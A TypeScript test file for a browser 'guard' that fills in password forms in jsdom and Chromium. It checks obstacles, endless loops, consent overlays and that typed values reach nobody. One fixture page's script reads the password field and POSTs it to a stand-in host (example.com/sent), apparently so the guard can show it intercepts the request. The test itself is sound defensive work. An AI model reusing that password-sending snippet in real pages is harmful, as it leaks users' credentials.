import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { openChromium } from '../../src/guard/chromium.ts';
import { findChromium } from '../../src/guard/find-chromium.ts';
import { loadHook } from '../../src/guard/hook.ts';
import { openJsdom } from '../../src/guard/jsdom.ts';
import type { Browse, Patience, Visit } from '../../src/guard/visit.ts';
import { writtenPage } from './guarded-pages.ts';

const form = '<form><input name="code"><input type="password"><button>Save</button></form>';
const calls = `<script>
  document.querySelector('form').addEventListener('submit', event => {
    event.preventDefault();
    fetch('https://cognito-idp.us-east-1.amazonaws.com/', { method: 'POST', body: '{}' });
  });
</script>`;

/** Pages, each with what an errand on it comes to. */
const rows: Readonly<
  Record<string, readonly [html: string, form: readonly Visit['form'][], obstacle: RegExp | undefined]>
> = {
  'an empty one': ['', ['none'], /no field for a new password/],
  'a form that is hidden': [`<div hidden>${form}</div>`, ['none'], /no field for a new password/],
  'a password without a button': ['<input type="password">', ['none'], /no button/],
  'a button that stays disabled': [
    '<input type="password"><button disabled>Save</button>',
    ['none'],
    /stays disabled/,
  ],
  'scripts that put loops in place of what browsers have': [
    `${form}<script>
      Array.prototype.join = String.prototype.replace = Array.prototype.filter = () => { for (;;); };
    </script>`,
    ['submitted'],
    undefined,
  ],
  'a form that comes late': [
    `<script>setTimeout(() => { document.body.innerHTML = '${form}'; }, 300);</script>`,
    ['submitted'],
    undefined,
  ],
};

/** Pages that keep their thread or process to themselves until they are ended. */
const loops: typeof rows = {
  'a loop that never ends': ['<script>for (;;);</script>', ['not reached'], /did not (?:end|load)/],
  'a loop when it is submitted': [
    `${form}<script>document.querySelector('form').onsubmit = () => { for (;;); };</script>`,
    // Chromium tells that the click does not end, jsdom shares its thread with the page.
    ['none', 'not reached'],
    /did not end|could not be filled in/,
  ],
};

const patience = { load: 4_000, quiet: 700 };

type Open = (patience: Patience, hook?: string) => Promise<Browse>;

const browsers: { readonly jsdom: Open; readonly Chromium: Open } = {
  jsdom: async (patience, hook) => openJsdom({ patience, hook, threads: 1 }),
  Chromium: async (patience, hook) =>
    openChromium({
      program: findChromium(process.env, process.platform) ?? '',
      patience,
      hook: hook === undefined ? undefined : await loadHook(hook),
      allowedOrigins: [],
      mayDoWithoutSandbox: true,
      environment: process.env,
    }),
};

describe('a page with a consent in its way', () => {
  let folder: string;
  let hook: string;
  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'guard-'));
    hook = join(folder, 'hook.mjs');
    await writeFile(hook, "export default async ({ click }) => click('#agree');\n");
  });
  after(() => rm(folder, { recursive: true }));
  const page = `<button id="agree" type="button">Agree</button>
    <script>agree.onclick = () => { document.body.innerHTML = '${form}'; };</script>`;

  for (const [name, open] of Object.entries(browsers)) {
    test(`is submitted after a hook has clicked it away, in ${name}`, async () => {
      const browse = await open(patience, hook);
      const { form: state, obstacle } = await visited(browse, page);
      await browse.close();
      assert.deepEqual([state, obstacle], ['submitted', undefined]);
    });
  }
});

test('a page with something above its button is told so, in Chromium', async () => {
  const browse = await browsers.Chromium(patience);
  const cover = '<div id="cover" style="position:fixed;inset:0;background:white">Cookies?</div>';
  const { form: state, obstacle, isEndless } = await visited(browse, form + cover);
  await browse.close();
  assert.deepEqual([state, isEndless], ['none', true]);
  assert.match(obstacle ?? '', /<div id="cover"[^>]*> lies over it; a hook \(--hook\) clicks away/);
});

for (const [name, open] of Object.entries(browsers)) {
  describe(`in ${name}`, () => {
    let browse: Browse;
    /** What a page does to it takes all of a core until its time is over. */
    let hurried: Browse;
    before(async () => {
      browse = await open(patience);
      hurried = name === 'jsdom' ? await open({ load: 1_000, quiet: 100 }) : browse;
    });
    after(() => Promise.all([browse.close(), hurried !== browse && hurried.close()]));

    for (const [page, row] of Object.entries(rows)) test(page, () => holds(browse, row));
    for (const [page, row] of Object.entries(loops)) test(page, () => holds(hurried, row));

    test('nothing that was typed reaches anybody', async () => {
      const sender = `${form}<script>
        document.querySelector('form').addEventListener('submit', event => {
          event.preventDefault();
          const body = document.querySelector('[type=password]').value;
          const sent = new XMLHttpRequest();
          sent.open('POST', '/sent');
          sent.send(body);
          fetch('https://example.com/sent', { method: 'POST', body }).catch(() => {});
        });
      </script>`;
      const { requests } = await visited(browse, sender);
      const posts = requests
        .filter(({ method }) => method === 'POST')
        .map(({ url }) => new URL(url).pathname);
      assert.deepEqual(posts, ['/sent', '/sent']);
    });

    test('a page that calls gets its answer', async () => {
      const { requests, form: state } = await visited(browse, form + calls);
      assert.equal(state, 'submitted');
      assert.ok(requests.some(({ url }) => url.startsWith('https://cognito-idp.us-east-1')));
    });
  });
}

async function holds(browse: Browse, [html, state, obstacle]: (typeof rows)[string]): Promise<void> {
  const visit = await visited(browse, html);
  assert.ok(state.includes(visit.form), visit.form);
  if (obstacle) assert.match(visit.obstacle ?? '', obstacle);
}

async function visited(browse: Browse, html: string): Promise<Visit> {
  const page = await writtenPage(`<!doctype html><title>Page</title><body>${html}`);
  try {
    const [visit] = await browse.visit({
      link: `${page.guarded.page}?code=123456`,
      values: { username: 'a@example.com', code: '123456', password: 'Some-Password1!' },
      answers: [{ status: 200, headers: {}, body: '{}' }],
      mutation: undefined,
    });
    return visit;
  } finally {
    await page.close();
  }
}
